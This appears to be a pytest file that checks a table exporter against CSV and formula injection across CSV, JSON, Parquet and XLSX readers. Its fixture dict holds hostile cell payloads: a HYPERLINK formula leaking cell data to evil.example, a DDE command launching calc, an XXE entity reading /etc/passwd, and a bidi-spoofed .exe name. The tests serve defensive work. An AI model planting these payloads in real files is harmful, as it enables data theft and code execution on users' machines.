"""Hostile cells in every format, read back by Python, pandas, DuckDB and openpyxl."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics.table import (
    FIGURES,
    STREAMABLE,
    Kind,
    empty_table,
    load_vocabulary,
    to_excel_csv_bytes,
    write_stream,
)

SIGN = "\N{REPLACEMENT CHARACTER}"
GRIN = "\N{GRINNING FACE}"
LIMIT = 32_767

csv.field_size_limit(10_000_000)  # Python's own reader takes 131,072 without it

#: What articles, file names and people may bring into a cell.
HOSTILE = {
    "a formula": "=1+1",
    "a plus": "+1",
    "a minus": "-1",
    "an at sign": "@SUM(1)",
    "a link as a formula": '=HYPERLINK("https://evil.example?"&A1,"4G")',
    "DDE": "=cmd|' /C calc'!A0",
    "a tab before a formula": "\t=1",
    "blanks before a formula": " \N{NO-BREAK SPACE}=1",
    "a line end before a formula": "\n=1",
    "a wide formula sign": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "a formula in the second line": "4G\n=1+1",
    "a formula behind a semicolon": "4G;=1+1",
    "a formula behind a semicolon and quotation marks": '4G; "=1+1',
    "quotation marks": 'a "b", ""c"',
    "an apostrophe": "'=1",
    "delimiters": "a,b;c\td|e",
    "line ends": "a\nb\n",
    "line ends of Windows and of old Macs": "a\r\nb\rc",
    "line ends of Unicode": "a\N{NEXT LINE}b\N{LINE SEPARATOR}c\N{PARAGRAPH SEPARATOR}",
    "bidi overrides and isolates": "\N{RIGHT-TO-LEFT OVERRIDE}gpj.\N{LEFT-TO-RIGHT ISOLATE}exe\N{RIGHT-TO-LEFT MARK}",
    "a byte order mark": "\N{ZERO WIDTH NO-BREAK SPACE}a",
    "NUL": "a\0b",
    "controls": "a\x01\x08\x0b\x0c\x0e\x1f\x7fb",
    "no characters": "a\ufffe\uffffb",
    "what Excel escapes with": "_x0041_ _x000D_ _x005F_",
    "what pandas takes for nothing": "NA",
    "a long number": "00123456789012345678901234567890",
    "what Excel takes for a day": "17/25",
    "a number with an exponent": "1E5",
    "blanks round it": "  a  ",
    "a page of XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "as much as a cell holds": "x" * LIMIT,
    "more than a cell holds": "x" * (LIMIT + 1),
    "as much as a cell holds, in letters of two units": GRIN * (LIMIT // 2),
    "more than a cell holds, in letters of two units": GRIN * (LIMIT // 2 + 1),
    "200,000 characters": "4G,\n" * 50_000,
}
NAMES, TEXTS = list(HOSTILE), list(HOSTILE.values())

#: What an XLSX says otherwise, and how.
OTHERWISE = {
    "line ends of Windows and of old Macs": "a\nb\nc",
    "NUL": f"a{SIGN}b",
    "controls": f"a{SIGN * 6}\x7fb",
    "no characters": f"a{SIGN * 2}b",
}

#: What the CSV for Excel says otherwise, beside that.
OPEN = [column.name for column in FIGURES if column.kind is Kind.TEXT and not column.closed]


def figures() -> pd.DataFrame:
    """Return a table with each hostile text in all columns of open words of a row."""
    sample = {
        **{column.name: "" for column in FIGURES},
        "published": None,
        "out_of": None,
        "year": None,
        "value": 1.5,
        "start": 0,
        "end": 1,
        "comparator": "=",
        "status": "actual",
        "origin": "rules",
        "unit": "percent",
    }
    rows = [{**sample, **dict.fromkeys(OPEN, text)} for text in TEXTS]
    told = pd.DataFrame(rows, columns=[column.name for column in FIGURES])
    return told.astype(empty_table(FIGURES).dtypes.to_dict())


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Return the table in every format, by suffix; `excel` is the CSV for Excel."""
    folder, told, vocabulary = tmp_path_factory.mktemp("hostile"), figures(), load_vocabulary()
    paths = {suffix: folder / f"figures{suffix}" for suffix in STREAMABLE}
    for suffix, path in paths.items():
        with path.open("wb") as file:
            write_stream(told, FIGURES, file, suffix, vocabulary, "figures")
    paths["excel"] = folder / "figures-excel.csv"
    paths["excel"].write_bytes(to_excel_csv_bytes(told))
    return paths


def by_duckdb(scan: str) -> list[dict[str, Any]]:
    found = duckdb.sql(f"select * from {scan}")
    rows = [dict(zip(found.columns, row, strict=True)) for row in found.fetchall()]
    return [{name: "" if cell is None else cell for name, cell in row.items()} for row in rows]


def by_openpyxl(path: Path) -> list[dict[str, Any]]:
    header, *rows = openpyxl.load_workbook(path)["figures"].iter_rows()
    return [dict(zip([cell.value for cell in header], row, strict=True)) for row in rows]


def records(frame: pd.DataFrame) -> list[dict[str, Any]]:
    return [{str(name): cell for name, cell in row.items()} for row in frame.fillna("").to_dict("records")]


_ALL_TEXT = "all_varchar=true, header=true, delim=',', quote='\"', escape='\"', max_line_size=20000000"

#: Readers of the formats that hold every text as it is.
EXACT: dict[str, Callable[[dict[str, Path]], list[dict[str, Any]]]] = {
    "csv by Python": lambda files: list(csv.DictReader(io.StringIO(files[".csv"].read_bytes().decode(), newline=""))),
    "csv by pandas": lambda files: records(pd.read_csv(files[".csv"], dtype="str", keep_default_na=False)),
    "csv by DuckDB": lambda files: by_duckdb(f"read_csv('{files['.csv']}', {_ALL_TEXT})"),
    "jsonl by Python": lambda files: [json.loads(line) for line in files[".jsonl"].read_bytes().splitlines()],
    "jsonl by pandas": lambda files: records(pd.read_json(files[".jsonl"], lines=True, dtype=False)),
    "jsonl by DuckDB": lambda files: by_duckdb(f"read_json('{files['.jsonl']}', maximum_object_size=100000000)"),
    "json by Python": lambda files: json.loads(files[".json"].read_bytes()),
    "json by pandas": lambda files: records(pd.read_json(files[".json"], dtype=False)),
    "json by DuckDB": lambda files: by_duckdb(f"read_json('{files['.json']}', maximum_object_size=100000000)"),
    "parquet by pandas": lambda files: records(pd.read_parquet(files[".parquet"]).astype(object)),
    "parquet by DuckDB": lambda files: by_duckdb(f"'{files['.parquet']}'"),
}


@pytest.mark.parametrize("reader", EXACT)
def test_csv_json_and_parquet_give_every_hostile_text_back_as_it_is(files: dict[str, Path], reader: str) -> None:
    rows = EXACT[reader](files)
    assert len(rows) == len(TEXTS)
    for name, text, row in zip(NAMES, TEXTS, rows, strict=True):
        changed = {column for column in OPEN if row[column] != text}
        assert not changed, f"{name}: {changed}"
    assert {str(row["comparator"]) for row in rows} == {"="}
    assert {float(row["value"]) for row in rows} == {1.5}


@pytest.fixture(scope="module")
def cells(files: dict[str, Path]) -> Iterator[list[dict[str, Any]]]:
    """Return the rows of the workbook, by column."""
    return by_openpyxl(files[".xlsx"])  # type: ignore[return-value]


@pytest.mark.parametrize("name", NAMES)
def test_a_workbook_holds_every_hostile_text_as_text_or_says_what_it_lacks(
    cells: list[dict[str, Any]], name: str
) -> None:
    row, text = cells[NAMES.index(name)], OTHERWISE.get(name, HOSTILE[name])
    for column in OPEN:
        cell = row[column]
        assert cell.data_type == "s", column
        assert cell.hyperlink is None
        told = openpyxl.utils.escape.unescape(cell.value)  # as the standard has it, and Excel does; openpyxl does not
        assert len(told.encode("utf-16-le")) // 2 <= LIMIT
        if len(text.encode("utf-16-le")) // 2 <= LIMIT:
            assert told == text
        else:
            assert told.endswith("the CSV has all]")
            assert text.startswith(told.rpartition(" [... cut")[0])


def cells_as_excel_parts_them(data: bytes, delimiter: str) -> Iterator[str]:
    """Yield the cells of a CSV file as a spreadsheet that parts them at `delimiter` does."""
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter):
        yield from row


def is_formula(cell: str) -> bool:
    """Return whether some spreadsheet would take a cell for a formula; the comparator `=` alone is none."""
    return cell != "=" and cell.strip('\N{NO-BREAK SPACE} \t\r\n"')[:1] in set("=+-@＝＋－＠")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_csv_for_excel_is_a_formula_wherever_excel_parts_cells(
    files: dict[str, Path], delimiter: str
) -> None:
    assert any(map(is_formula, cells_as_excel_parts_them(files[".csv"].read_bytes(), delimiter)))
    armed = [cell for cell in cells_as_excel_parts_them(files["excel"].read_bytes(), delimiter) if is_formula(cell)]
    assert armed == []


@settings(deadline=None, max_examples=60)
@given(text=st.text("=+-@;,\t\r\n\"' a＝", max_size=12), delimiter=st.sampled_from(",;\t"))
def test_no_text_at_all_makes_a_formula_in_the_csv_for_excel(text: str, delimiter: str) -> None:
    told = ONE.assign(sentence=text, reviewer=text)
    assert not any(map(is_formula, cells_as_excel_parts_them(to_excel_csv_bytes(told), delimiter))), repr(text)


ONE = figures().head(1).assign(**dict.fromkeys(OPEN, "x"))


def test_the_csv_for_excel_holds_no_control_and_no_cell_that_excel_would_tear(files: dict[str, Path]) -> None:
    rows = list(csv.DictReader(io.StringIO(files["excel"].read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == len(TEXTS)
    assert "\0" not in "".join(row["sentence"] for row in rows)
    assert max(len(row["sentence"].encode("utf-16-le")) // 2 for row in rows) == LIMIT
    plain = ("bidi overrides and isolates", "what Excel escapes with", "an apostrophe", "blanks round it", "delimiters")
    assert {name: rows[NAMES.index(name)]["sentence"] for name in plain} == {name: HOSTILE[name] for name in plain}
